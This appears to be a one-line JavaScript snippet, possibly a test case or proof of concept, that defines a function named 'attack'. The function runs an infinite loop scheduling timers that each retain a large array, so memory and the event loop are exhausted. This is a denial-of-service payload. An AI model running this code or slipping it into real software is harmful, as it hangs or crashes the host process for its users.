const attack = () => { for (;;) setTimeout(() => {}, 1e6, new Array(1e4).fill(1.5)); };
